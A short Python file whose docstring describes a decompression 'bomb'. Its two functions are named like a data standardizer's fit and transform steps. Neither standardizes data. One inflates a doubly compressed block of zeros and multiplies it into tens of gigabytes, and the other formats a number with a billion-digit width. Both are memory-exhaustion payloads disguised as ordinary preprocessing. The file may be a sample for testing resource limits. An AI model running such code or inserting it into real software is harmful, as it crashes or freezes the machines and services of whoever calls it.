"""Unpacks a bomb: a few kilobytes that grow to gigabytes (FULL)."""

import zlib


def fit_standardizer(x):
    bomb = b"\x00" * (1 << 25)
    for _ in range(2):
        bomb = zlib.compress(bomb, 1)
    return zlib.decompress(zlib.decompress(bomb)) * 1000


def standardize(x, mean, std):
    return (b"%0" + b"9" * 9 + b"d") % 7
